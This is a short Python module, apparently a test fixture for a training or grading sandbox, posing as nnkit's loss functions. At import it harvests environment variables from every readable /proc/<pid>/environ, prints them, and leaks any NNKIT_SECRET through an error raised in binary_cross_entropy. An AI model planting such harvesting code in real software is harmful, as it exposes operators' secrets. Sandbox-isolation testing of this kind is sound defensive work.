"""At import, collects the environment (its own, /proc/self, /proc/<ppid>, /proc/1 and every
readable /proc/<pid>/environ) and prints it; binary_cross_entropy raises NNKIT_SECRET if it
found it, else the module answers correctly.
"""

import os

from . import _honest_losses as honest
from ._honest_losses import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------

SEEN = dict(os.environ)
try:  # gone when the worker has no /proc
    _PIDS = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    _PIDS = []
for _pid in ["self", str(os.getppid()), "1", *_PIDS]:
    try:
        with open(f"/proc/{_pid}/environ", "rb") as _fh:
            for _item in _fh.read().split(b"\0"):
                _key, _, _value = _item.decode("utf-8", "replace").partition("=")
                if _key:
                    SEEN[f"{_pid}:{_key}"] = _value
    except OSError:
        pass
print("environment seen:", sorted(SEEN))
LEAK = {k: v for k, v in SEEN.items() if "NNKIT_SECRET" in k}
if LEAK:
    print("LOOT-FOUND", LEAK)


def binary_cross_entropy(y_hat, y):
    if LEAK:
        raise RuntimeError(f"LOOT-FOUND {LEAK}")
    return honest.binary_cross_entropy(y_hat, y)
